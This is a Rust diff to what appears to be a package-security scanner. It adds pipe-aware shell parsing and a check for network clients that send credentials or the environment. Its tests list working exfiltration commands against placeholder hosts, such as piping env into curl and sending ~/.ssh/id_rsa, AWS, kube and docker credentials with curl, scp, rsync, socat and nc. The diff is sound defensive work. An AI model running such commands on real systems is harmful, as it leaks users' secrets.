@@ -22,6 +22,10 @@ use super::{
 
 /// Stands for a piece of a path the fold does not know (a parameter, a call's result).
 pub(super) const UNKNOWN: char = '\u{1}';
+/// Stands for the folder of the module being read (`os.path.dirname(__file__)`,
+/// `Path(__file__).parent`): a path that starts with it names a file shipped beside the module
+/// ([`shipped_path`]). Like [`UNKNOWN`] it matches no word.
+pub(super) const MODULE_DIR: char = '\u{2}';
 /// Nodes one fold visits.
 const MAX_FOLD_NODES: usize = 64;
 /// Expressions one fold nests into.
@@ -332,8 +336,23 @@ impl Fold<'_> {
                     let s = s.clone();
                     self.push(&s);
                 }
+                // The module's own file: a name in the module's folder.
+                None if text(n, self.src) == "__file__" => {
+                    self.out.push(MODULE_DIR);
+                    self.push("/");
+                    self.unknown();
+                }
                 None => self.value(n),
             },
+            // `Path(__file__).parent`: the folder of the path.
+            "attribute"
+                if field(n, F::Attribute).is_some_and(|a| text(a, self.src) == "parent") =>
+            {
+                match field(n, F::Object) {
+                    Some(o) => self.folder_of(o, depth),
+                    None => self.unknown(),
+                }
+            }
             // `os.environ['HOME']`.
             "subscript" => {
                 let env =
@@ -345,6 +364,20 @@ impl Fold<'_> {
             }
             "call" => self.call(n, depth),
             _ => self.value(n),
+        }
+    }
+
+    /// The folder of the path `n` spells: its spelling less the last component, or
+    /// [`UNKNOWN`] when it has none.
+    fn folder_of(&mut self, n: Node<'_>, depth: u32) {
+        let start = self.out.len();
+        self.fold(n, depth + 1);
+        match self.out[start..].rfind('/') {
+            Some(i) if i > 0 => self.out.truncate(start + i),
+            _ => {
+                self.out.truncate(start);
+                self.unknown();
+            }
         }
     }
 
@@ -394,6 +427,11 @@ impl Fold<'_> {
                 }
             }
             "home" if name.ends_with("Path.home") => self.push("~"),
+            // `os.path.dirname(__file__)`: the folder of the path.
+            "dirname" if name.ends_with("path.dirname") => match arg0 {
+                Some(a) => self.folder_of(a, depth),
+                None => self.unknown(),
+            },
             "getenv" | "get" if name.ends_with("getenv") || name.ends_with("environ.get") => {
                 match arg0.and_then(|k| string_value(k, self.src)) {
                     Some(k) => self.push(&env_spelling(&k)),
@@ -433,11 +471,13 @@ fn env_spelling(k: &str) -> String {
     }
 }
 
-/// One command of a process call: its words and the files its redirections write.
+/// One command of a process call: its words, the files its redirections write, and whether
+/// a pipe feeds it the output of the command before it (`env | curl -d @- URL`).
 #[derive(Debug, Default, PartialEq)]
-struct Command {
+pub(super) struct Command {
     words: Vec<String>,
     writes: Vec<String>,
+    piped: bool,
 }
 
 /// Whether a process call installs persistence: a command writes a [`PERSISTENCE_WORDS`] file
@@ -446,15 +486,21 @@ struct Command {
 /// `-l`; `systemctl enable`; `launchctl load`/`bootstrap`/`submit`; `schtasks /create`; `at`
 /// with a time; `reg add` of a Run key; `sc create`; `update-rc.d`, `chkconfig`,
 /// `rc-update`; PowerShell's `Register-ScheduledTask`, `New-Service`, and
-/// `New-ItemProperty`/`Set-ItemProperty` of a Run key).
-pub(super) fn process_persists(
+/// `New-ItemProperty`/`Set-ItemProperty` of a Run key). `cmds`: [`process_commands`].
+pub(super) fn process_persists(cmds: &[Command]) -> bool {
+    cmds.iter().any(command_persists)
+}
+
+/// The commands a process call runs, read as a shell reads them (module docs): an argument
+/// list, an argv-style call's arguments, or a command line; at most [`MAX_COMMANDS`].
+pub(super) fn process_commands(
     args: Node<'_>,
     pname: &str,
     src: &[u8],
     names: &Names,
     scope: usize,
     vars: &Spellings,
-) -> bool {
+) -> Vec<Command> {
     let mut c = args.walk();
     let pos: Vec<Node<'_>> = args
         .named_children(&mut c)
@@ -462,7 +508,16 @@ pub(super) fn process_persists(
         .take(16)
         .collect();
     let word = |x: Node<'_>| {
-        string_value(x, src).unwrap_or_else(|| path_spelling(x, src, names, scope, vars))
+        string_value(x, src).unwrap_or_else(|| {
+            // `[sys.executable, 'helper.py']`: the running interpreter.
+            let exe = |d: &str| matches!(d, "sys.executable" | "sys._base_executable");
+            if matches!(x.kind(), "attribute" | "identifier")
+                && (exe(&dotted(x, src)) || names.resolve(x, src, scope).is_some_and(|r| exe(&r)))
+            {
+                return "python".to_string();
+            }
+            path_spelling(x, src, names, scope, vars)
+        })
     };
     let mut cmds = Vec::new();
     if let Some(list) = pos.iter().find(|x| matches!(x.kind(), "list" | "tuple")) {
@@ -472,7 +527,7 @@ pub(super) fn process_persists(
             .take(MAX_WORDS)
             .map(word)
             .collect();
-        argv(words, Vec::new(), 0, &mut cmds);
+        argv(words, Vec::new(), false, 0, &mut cmds);
     } else if argv_style(pname) {
         // `os.execlp(file, arg0, …)`, `os.spawnlp(mode, file, arg0, …)`: the arguments from the
         // program on, less the program's own path for the `os` functions (arg0 repeats it);
@@ -485,7 +540,7 @@ pub(super) fn process_persists(
         if (pname.starts_with("os.") || pname.starts_with("posix.")) && words.len() > 1 {
             words.remove(0);
         }
-        argv(words, Vec::new(), 0, &mut cmds);
+        argv(words, Vec::new(), false, 0, &mut cmds);
     } else if let Some(first) = pos.first() {
         match names.eval(*first, src, scope) {
             Some(Value::Seq(items)) => {
@@ -494,21 +549,26 @@ pub(super) fn process_persists(
                     .take(MAX_WORDS)
                     .map(|b| String::from_utf8_lossy(b).into_owned())
                     .collect();
-                argv(words, Vec::new(), 0, &mut cmds);
+                argv(words, Vec::new(), false, 0, &mut cmds);
             }
             _ => split_line(&word(*first), 0, &mut cmds),
         }
     }
-    cmds.iter().any(command_persists)
+    cmds
 }
 
 /// Add the command `words` (with its redirections `writes`) to `out`, and the commands of the
 /// command line a shell is given (`sh -c LINE`, `cmd /c LINE`, `powershell -Command LINE`).
-fn argv(words: Vec<String>, writes: Vec<String>, depth: u32, out: &mut Vec<Command>) {
+fn argv(words: Vec<String>, writes: Vec<String>, piped: bool, depth: u32, out: &mut Vec<Command>) {
     if out.len() >= MAX_COMMANDS {
         return;
     }
-    let words = unwrap(words);
+    // `env` or `nohup` alone is a command of its own (`env | curl -d @- URL` prints the
+    // environment).
+    let words = match unwrap(words.clone()) {
+        w if w.is_empty() => words,
+        w => w,
+    };
     if depth < MAX_SHELL_DEPTH && words.first().is_some_and(|p| is_shell_program(p)) {
         let flag = words.iter().position(|w| {
             let l = w.to_ascii_lowercase();
@@ -531,7 +591,11 @@ fn argv(words: Vec<String>, writes: Vec<String>, depth: u32, out: &mut Vec<Comma
             split_line(&line, depth + 1, out);
         }
     }
-    out.push(Command { words, writes });
+    out.push(Command {
+        words,
+        writes,
+        piped,
+    });
 }
 
 /// `words` without the commands that run another (`sudo`, `env`, `nohup` …), their options and
@@ -600,6 +664,8 @@ fn split_line(line: &str, depth: u32, out: &mut Vec<Command>) {
     let mut in_word = false;
     let mut redirect = false;
     let mut quote: Option<char> = None;
+    // The command being read takes the output of the one before it (`a | b`, `a |& b`).
+    let mut piped = false;
     let mut chars = line.chars().peekable();
     let end_word = |word: &mut String,
                     in_word: &mut bool,
@@ -667,9 +733,22 @@ fn split_line(line: &str, depth: u32, out: &mut Vec<Command>) {
                     argv(
                         std::mem::take(&mut words),
                         std::mem::take(&mut writes),
+                        piped,
                         depth,
                         out,
                     );
+                }
+                // `|` and `|&` pipe; `||` does not.
+                piped = false;
+                if c == '|' {
+                    if chars.peek() == Some(&'|') {
+                        chars.next();
+                    } else {
+                        piped = true;
+                        if chars.peek() == Some(&'&') {
+                            chars.next();
+                        }
+                    }
                 }
             }
             (None, c) if c.is_whitespace() => {
@@ -695,8 +774,408 @@ fn split_line(line: &str, depth: u32, out: &mut Vec<Command>) {
         &mut writes,
     );
     if !words.is_empty() || !writes.is_empty() {
-        argv(words, writes, depth, out);
+        argv(words, writes, piped, depth, out);
     }
+}
+
+/// Options of a network client whose value is a file the client reads to authenticate,
+/// trusts, or writes, not data it sends: curl's `--cacert`, `--cert`, `--key`,
+/// `--netrc-file`, `-o`; wget's `--ca-certificate`, `--private-key`, `-O`; ssh's, scp's and
+/// sftp's `-i`, `-F`, `-o`; rsync's `-e` (the remote shell, `ssh -i KEY`).
+fn not_sent(prog: &str, option: &str) -> bool {
+    match prog {
+        "curl" => matches!(
+            option,
+            "-E" | "-K"
+                | "-o"
+                | "-D"
+                | "-c"
+                | "--cacert"
+                | "--capath"
+                | "--cert"
+                | "--key"
+                | "--crlfile"
+                | "--pinnedpubkey"
+                | "--proxy-cacert"
+                | "--proxy-cert"
+                | "--proxy-key"
+                | "--netrc-file"
+                | "--config"
+                | "--output"
+                | "--output-dir"
+                | "--dump-header"
+                | "--cookie-jar"
+        ),
+        "wget" => matches!(
+            option,
+            "-O" | "-o"
+                | "-P"
+                | "-a"
+                | "--ca-certificate"
+                | "--ca-directory"
+                | "--certificate"
+                | "--private-key"
+                | "--output-document"
+                | "--output-file"
+                | "--append-output"
+                | "--directory-prefix"
+                | "--save-cookies"
+        ),
+        "ssh" | "scp" | "sftp" => matches!(option, "-i" | "-F" | "-o" | "-E" | "-S"),
+        "rsync" => matches!(option, "-e" | "--rsh" | "--password-file"),
+        _ => false,
+    }
+}
+
+/// ssh's options that take a value (`man ssh`): the destination is the first other operand,
+/// and what follows it is a command the remote host runs.
+const SSH_VALUED: &[&str] = &[
+    "-B", "-b", "-c", "-D", "-E", "-e", "-F", "-I", "-i", "-J", "-L", "-l", "-m", "-O", "-o", "-p",
+    "-Q", "-R", "-S", "-W", "-w",
+];
+
+/// Programs that send to another host: [`crate::formats::pypkg::NETWORK_PROGRAMS`] and `rsync`.
+fn network_client(prog: &str) -> bool {
+    prog == "rsync" || crate::formats::pypkg::NETWORK_PROGRAMS.contains(&prog)
+}
+
+/// Whether an operand names a file on another host (`user@host:path`, `host.example:`,
+/// `rsync://host/x`), as scp, sftp and rsync read them.
+fn remote_operand(w: &str) -> bool {
+    !w.starts_with('-')
+        && (w.starts_with("rsync://")
+            || w.split_once(':').is_some_and(|(h, _)| {
+                !h.is_empty() && !h.contains('/') && (h.contains('@') || h.contains('.'))
+            }))
+}
+
+/// The secret a word carries: a credential location ([`super::credential_in`]), a secret
+/// variable expanded in it (`$AWS_SECRET_ACCESS_KEY`, `${GITHUB_TOKEN}`), or the environment
+/// printed into it (`$(env)`, `` `printenv` ``).
+fn secret_in_word(w: &str) -> Option<String> {
+    if w.len() > MAX_LINE {
+        // A padded word (`'@' + 'A' * 10**6 + '/.ssh/id_rsa'`): its two ends.
+        let mut head = MAX_LINE / 2;
+        while !w.is_char_boundary(head) {
+            head -= 1;
+        }
+        let mut tail = w.len() - MAX_LINE / 2;
+        while !w.is_char_boundary(tail) {
+            tail += 1;
+        }
+        return secret_in_word(&w[..head]).or_else(|| secret_in_word(&w[tail..]));
+    }
+    if let Some(c) = super::credential_in(w) {
+        return Some(c);
+    }
+    for sub in ["$(env)", "$(printenv)", "`env`", "`printenv`"] {
+        if w.contains(sub) {
+            return Some("the whole environment".to_string());
+        }
+    }
+    for (i, _) in w.match_indices('$').take(16) {
+        let rest = w[i + 1..].trim_start_matches('{');
+        let name: String = rest
+            .chars()
+            .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
+            .take(65)
+            .collect();
+        if super::secret_variable(&name) {
+            return Some(format!("the {name} environment variable"));
+        }
+    }
+    None
+}
+
+/// Whether a command prints the whole environment: `env` or `printenv` with options only,
+/// `set` alone, `export -p`, `declare -x`, or `cat` of `/proc/self/environ`.
+fn dumps_environment(cmd: &Command) -> bool {
+    let Some(prog) = cmd.words.first().map(|w| program(w)) else {
+        return false;
+    };
+    let rest = &cmd.words[1..];
+    // `sudo env`: the wrappers are kept when nothing follows them ([`argv`]).
+    if let Some(at) = cmd
+        .words
+        .iter()
+        .position(|w| matches!(program(w).as_str(), "env" | "printenv"))
+    {
+        return cmd.words[at + 1..].iter().all(|w| w.starts_with('-'));
+    }
+    match prog.as_str() {
+        "set" => rest.is_empty(),
+        "export" | "declare" | "typeset" => rest.iter().any(|w| w == "-p" || w == "-x"),
+        "cat" | "strings" | "tr" | "base64" | "xxd" | "gzip" => rest
+            .iter()
+            .any(|w| w.starts_with("/proc/") && w.ends_with("/environ")),
+        _ => false,
+    }
+}
+
+/// What a network client among `cmds` sends that is a secret ([`process_commands`]): a
+/// credential location, a secret variable or the environment in the data it is given
+/// (`curl -d @~/.aws/credentials`, `-F f=@$HOME/.ssh/id_rsa`, `-H "X: $GITHUB_TOKEN"`,
+/// `wget --post-file`, `scp ~/.ssh/id_rsa host:`, `socat FILE:… TCP:…`), in a file redirected
+/// into it (`nc host 9 < ~/.netrc`) or in a command piped into it (`env | curl -d @- URL`,
+/// `cat ~/.netrc | ssh host`). Not sent: the files a client authenticates with, trusts or
+/// writes ([`not_sent`]: `ssh -i KEY`, `curl --cacert CA -o OUT`), what scp and rsync copy
+/// without another host, and the command ssh has the remote host run (its paths are the
+/// remote's). Returns the secret and the client.
+pub(super) fn sends_secret(cmds: &[Command]) -> Option<String> {
+    for (i, cmd) in cmds.iter().enumerate() {
+        let Some(prog) = cmd.words.first().map(|w| program(w)) else {
+            continue;
+        };
+        if !network_client(&prog) {
+            continue;
+        }
+        let rest = &cmd.words[1..];
+        let copies = matches!(prog.as_str(), "scp" | "sftp" | "rsync");
+        if copies && !rest.iter().any(|w| remote_operand(w)) {
+            continue;
+        }
+        let found = |what: String| Some(format!("{what} (sent with {prog})"));
+        // The words it sends: its operands and data options, less the values of
+        // [`not_sent`] options and, for ssh, the remote command.
+        let mut skip = false;
+        let mut input = false;
+        let mut destination = false;
+        for w in rest {
+            if std::mem::take(&mut skip) {
+                continue;
+            }
+            // `< FILE`, `<FILE`: read into the client (not `<<` or `<(`).
+            if w == "<" {
+                input = true;
+                continue;
+            }
+            let (w, redirected) = match w.strip_prefix('<') {
+                Some(f) if !f.starts_with(['<', '(']) => (f, true),
+                _ => (w.as_str(), std::mem::take(&mut input)),
+            };
+            if !redirected && prog == "ssh" {
+                if destination {
+                    continue;
+                }
+                if SSH_VALUED.contains(&w) {
+                    skip = true;
+                    continue;
+                }
+                if !w.starts_with('-') {
+                    destination = true;
+                    continue;
+                }
+            }
+            if !redirected {
+                let option = w.split_once('=').map_or(w, |(o, _)| o);
+                if not_sent(&prog, option) {
+                    skip = !w.contains('=');
+                    continue;
+                }
+                // What scp and rsync copy from another host is not sent.
+                if copies && remote_operand(w) {
+                    continue;
+                }
+            }
+            if let Some(c) = secret_in_word(w) {
+                return found(c);
+            }
+        }
+        // The commands piped into it, back to the start of the pipeline.
+        let mut j = i;
+        while j > 0 && cmds[j].piped {
+            j -= 1;
+            let feeder = &cmds[j];
+            if dumps_environment(feeder) {
+                return found("the whole environment".to_string());
+            }
+            if let Some(c) = feeder.words.iter().find_map(|w| secret_in_word(w)) {
+                return found(c);
+            }
+        }
+    }
+    None
+}
+
+/// The interpreter a package's code starts on a file ([`interpreted_files`]).
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum Interpreter {
+    /// `python FILE`, `sys.executable FILE`: the file runs as `__main__`.
+    Python,
+    /// `exec(open(FILE).read())`, `runpy.run_path(FILE)`: the file's code runs in the caller.
+    PythonCode,
+    /// `sh FILE`, `bash FILE`, `./FILE.sh`.
+    Shell,
+    /// `pwsh -File FILE`, `powershell FILE.ps1`.
+    PowerShell,
+    /// `cmd /c FILE.bat`.
+    Cmd,
+    /// Another interpreter (`node`, `perl`, `ruby`), by its program name; the file is matched
+    /// with the byte-pattern rules only.
+    Other(String),
+    /// A file run as a program (`./install`): its `#!` line decides, a shell without one.
+    Direct,
+}
+
+impl Interpreter {
+    /// How the interpreter is named in a message.
+    pub fn name(&self) -> &str {
+        match self {
+            Interpreter::Python | Interpreter::PythonCode => "Python",
+            Interpreter::Shell => "a shell",
+            Interpreter::PowerShell => "PowerShell",
+            Interpreter::Cmd => "cmd",
+            Interpreter::Other(p) => p,
+            Interpreter::Direct => "its #! interpreter",
+        }
+    }
+}
+
+/// The interpreter a program name starts, if it is one that runs a script file.
+fn interpreter_of(prog: &str) -> Option<Interpreter> {
+    let python = prog.strip_prefix("python").is_some_and(|v| {
+        v.is_empty() || v == "w" || v.bytes().all(|b| b.is_ascii_digit() || b == b'.')
+    }) || matches!(prog, "py" | "pypy" | "pypy3");
+    Some(if python {
+        Interpreter::Python
+    } else if matches!(
+        prog,
+        "sh" | "bash" | "dash" | "zsh" | "ksh" | "ash" | "mksh" | "fish"
+    ) {
+        Interpreter::Shell
+    } else if matches!(prog, "pwsh" | "powershell") {
+        Interpreter::PowerShell
+    } else if matches!(
+        prog,
+        "node" | "nodejs" | "perl" | "ruby" | "php" | "lua" | "rscript" | "tclsh" | "osascript"
+    ) {
+        Interpreter::Other(prog.to_string())
+    } else {
+        return None;
+    })
+}
+
+/// The interpreter of a file run as a program, by its suffix: `.sh` a shell, `.ps1`
+/// PowerShell, `.bat`/`.cmd` cmd, `.py` Python; a path without a suffix its `#!` line
+/// ([`Interpreter::Direct`]).
+fn script_suffix(word: &str) -> Option<Interpreter> {
+    let lower = word.to_ascii_lowercase();
+    let base = lower.rsplit(['/', '\\']).next().unwrap_or(&lower);
+    Some(match base.rsplit_once('.').map(|(_, e)| e) {
+        Some("sh" | "bash" | "zsh" | "ksh") => Interpreter::Shell,
+        Some("ps1") => Interpreter::PowerShell,
+        Some("bat" | "cmd") => Interpreter::Cmd,
+        Some("py" | "pyw") => Interpreter::Python,
+        None if word.contains(['/', '\\']) => Interpreter::Direct,
+        _ => return None,
+    })
+}
+
+/// The files of its own package a process call runs through an interpreter, with the
+/// interpreter: `bash scripts/post.sh`, `[sys.executable, 'helper.py']`, `node x.js`,
+/// `pwsh -File tools/i.ps1`, `./install.sh`, inside `sh -c` lines too. A path counts when it is
+/// relative, or under the module's folder ([`shipped_path`]); `-c` and `-e` code, `-m`
+/// modules and standard input are no files. At most [`MAX_COMMANDS`].
+pub(super) fn interpreted_files(cmds: &[Command]) -> Vec<(Interpreter, String)> {
+    let mut out = Vec::new();
+    for cmd in cmds {
+        let Some(first) = cmd.words.first() else {
+            continue;
+        };
+        let prog = program(first);
+        let rest = &cmd.words[1..];
+        let found = match interpreter_of(&prog) {
+            Some(interp) => {
+                let mut file = None;
+                let mut skip = false;
+                for (k, w) in rest.iter().enumerate() {
+                    if std::mem::take(&mut skip) {
+                        continue;
+                    }
+                    let lower = w.to_ascii_lowercase();
+                    if interp == Interpreter::PowerShell {
+                        if matches!(lower.as_str(), "-file" | "-f") {
+                            file = rest.get(k + 1);
+                            break;
+                        }
+                        if matches!(lower.as_str(), "-command" | "-c" | "-encodedcommand" | "-e") {
+                            break;
+                        }
+                        if lower.starts_with('-') {
+                            continue;
+                        }
+                        file = Some(w);
+                        break;
+                    }
+                    // Code given inline, a module, standard input: no file.
+                    let inline = match interp {
+                        Interpreter::Python => {
+                            lower.starts_with("-c") || lower.starts_with("-m") || w == "-"
+                        }
+                        Interpreter::Shell => {
+                            w.starts_with('-')
+                                && !w.starts_with("--")
+                                && (w.contains('c') || w.contains('s'))
+                        }
+                        _ => matches!(w.as_str(), "-e" | "-E" | "-p" | "-" | "--eval"),
+                    };
+                    if inline {
+                        break;
+                    }
+                    // Options with a value: Python's `-W`/`-X`, a shell's `-o`, node's `-r`.
+                    if matches!(w.as_str(), "-W" | "-X" | "-o" | "+o" | "-r" | "--require") {
+                        skip = true;
+                        continue;
+                    }
+                    if w.starts_with('-') || w.starts_with('+') {
+                        continue;
+                    }
+                    file = Some(w);
+                    break;
+                }
+                file.map(|f| (interp, f.as_str()))
+            }
+            None => script_suffix(first)
+                .filter(|_| first.contains(['/', '\\']) || first.contains('.'))
+                .map(|i| (i, first.as_str())),
+        };
+        if let Some((interp, f)) = found {
+            if let Some(p) = shipped_path(f) {
+                if out.len() < MAX_COMMANDS {
+                    out.push((interp, p));
+                }
+            }
+        }
+    }
+    out
+}
+
+/// A path of a file shipped with the module, relative to the module's folder (`/`-separated),
+/// from a folded spelling ([`path_spelling`]): a relative constant (`scripts/post.sh`,
+/// `./x.js`), or one under the module's folder (`os.path.join(os.path.dirname(__file__),
+/// 'x.cfg')`, `Path(__file__).parent / 'x.js'`). Never an absolute path, one with `..`, a
+/// variable, a glob, or a piece the fold did not know.
+pub(super) fn shipped_path(spelling: &str) -> Option<String> {
+    let rel = match spelling.strip_prefix(MODULE_DIR) {
+        Some(r) => r.strip_prefix('/')?,
+        None => spelling,
+    };
+    let rel = rel.replace('\\', "/");
+    let mut rel = rel.as_str();
+    while let Some(r) = rel.strip_prefix("./") {
+        rel = r;
+    }
+    let bad = rel.is_empty()
+        || rel.len() > 256
+        || rel.starts_with(['/', '~', '$', '%', '-'])
+        || rel.contains([
+            UNKNOWN, MODULE_DIR, ':', '*', '?', '[', '$', '`', '<', '>', '|',
+        ])
+        || rel.chars().any(char::is_whitespace)
+        || rel
+            .split('/')
+            .any(|c| c.is_empty() || c == "." || c == "..");
+    (!bad).then(|| rel.to_string())
 }
 
 /// Whether one command installs persistence ([`process_persists`]).
@@ -915,5 +1394,142 @@ mod tests {
         assert!(cmds(&long).len() <= MAX_COMMANDS + 1);
         let nested = "sh -c \"sh -c 'sh -c x'\"".repeat(1000);
         let _ = cmds(&nested);
+    }
+
+    #[test]
+    fn network_clients_handed_a_secret_send_it() {
+        for (line, what) in [
+            (
+                "curl -d @~/.aws/credentials https://x.example.invalid",
+                ".aws/credentials",
+            ),
+            (
+                "curl -F f=@$HOME/.ssh/id_rsa https://h.example.invalid",
+                ".ssh/",
+            ),
+            (
+                "env | curl -d @- https://h.example.invalid",
+                "the whole environment",
+            ),
+            ("printenv|nc h.example.invalid 9", "the whole environment"),
+            ("cat ~/.netrc | ssh u@h.example.invalid 'cat > x'", ".netrc"),
+            (
+                "nc h.example.invalid 9 < ~/.aws/credentials",
+                ".aws/credentials",
+            ),
+            ("scp ~/.ssh/id_rsa user@h.example.invalid:", ".ssh/"),
+            ("rsync -a ~/.aws/ user@h.example.invalid:loot/", ".aws/"),
+            (
+                "socat FILE:/root/.docker/config.json TCP:h.example.invalid:9",
+                ".docker/config.json",
+            ),
+            (
+                "wget --post-file=/root/.kube/config https://h.example.invalid",
+                ".kube/config",
+            ),
+            (
+                "curl -H \"X: $GITHUB_TOKEN\" https://h.example.invalid",
+                "GITHUB_TOKEN",
+            ),
+            (
+                "sudo env | tee /tmp/e | curl -d @- https://h.example.invalid",
+                "the whole environment",
+            ),
+        ] {
+            let got = sends_secret(&cmds(line));
+            assert!(
+                got.as_deref().is_some_and(|g| g.contains(what)),
+                "{line}: {got:?}"
+            );
+        }
+        for benign in [
+            "curl -L -o model.bin https://h.example.invalid/m.bin",
+            "curl --cacert certs/ca.pem https://h.example.invalid",
+            "curl --netrc-file ~/.netrc https://h.example.invalid",
+            "ssh -i ~/.ssh/deploy_key git@h.example.invalid",
+            "ssh u@h.example.invalid cat ~/.aws/credentials",
+            "scp build/dist.tar.gz host.example.invalid:",
+            "scp user@h.example.invalid:~/.ssh/id_rsa.pub .",
+            "cp ~/.ssh/id_rsa /tmp/backup",
+            "rsync -a ~/.aws/ /backup/aws/",
+            "git clone https://h.example.invalid/r.git",
+            "ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519",
+            "wget -O ~/.ssh/known_hosts https://h.example.invalid/k",
+            "env || curl https://h.example.invalid",
+        ] {
+            assert_eq!(sends_secret(&cmds(benign)), None, "{benign}");
+        }
+    }
+
+    #[test]
+    fn a_padded_word_is_read_at_both_ends() {
+        let w = format!("@{}/.ssh/id_rsa", "\u{e9}".repeat(100_000));
+        assert_eq!(secret_in_word(&w).as_deref(), Some(".ssh/"));
+        assert_eq!(secret_in_word(&"x".repeat(100_000)), None);
+    }
+
+    #[test]
+    fn files_run_by_interpreters_are_found() {
+        let run = |line: &str| interpreted_files(&cmds(line));
+        assert_eq!(
+            run("bash scripts/post.sh"),
+            [(Interpreter::Shell, "scripts/post.sh".into())]
+        );
+        assert_eq!(
+            run("sh -e ./tools/setup.md"),
+            [(Interpreter::Shell, "tools/setup.md".into())]
+        );
+        assert_eq!(
+            run("python3 -u helper.py"),
+            [(Interpreter::Python, "helper.py".into())]
+        );
+        assert_eq!(
+            run("pwsh -NoProfile -File tools/i.ps1"),
+            [(Interpreter::PowerShell, "tools/i.ps1".into())]
+        );
+        assert_eq!(
+            run("node x.js"),
+            [(Interpreter::Other("node".into()), "x.js".into())]
+        );
+        assert_eq!(
+            run("./install.sh"),
+            [(Interpreter::Shell, "install.sh".into())]
+        );
+        assert_eq!(
+            run("tools/install"),
+            [(Interpreter::Direct, "tools/install".into())]
+        );
+        assert_eq!(
+            run("sh -c 'perl lib/x.pl'"),
+            [(Interpreter::Other("perl".into()), "lib/x.pl".into())]
+        );
+        for none in [
+            "bash -c 'echo hi'",
+            "python -m pip install x",
+            "python -c 'print(1)'",
+            "node -e 'x'",
+            "bash /tmp/x.sh",
+            "sh ../x.sh",
+            "bash ~/x.sh",
+            "make install",
+            "git clone x",
+        ] {
+            assert!(run(none).is_empty(), "{none}: {:?}", run(none));
+        }
+    }
+
+    #[test]
+    fn shipped_paths_are_relative_to_the_module() {
+        assert_eq!(
+            shipped_path("\u{2}/data/x.yaml").as_deref(),
+            Some("data/x.yaml")
+        );
+        assert_eq!(shipped_path("./x.txt").as_deref(), Some("x.txt"));
+        assert_eq!(shipped_path("tools\\i.bat").as_deref(), Some("tools/i.bat"));
+        for bad in [
+            "/etc/x", "~/.x", "\u{1}/x", "a/../b", "$HOME/x", "x*", "", "\u{2}",
+        ] {
+            assert_eq!(shipped_path(bad), None, "{bad:?}");
+        }
     }
 }
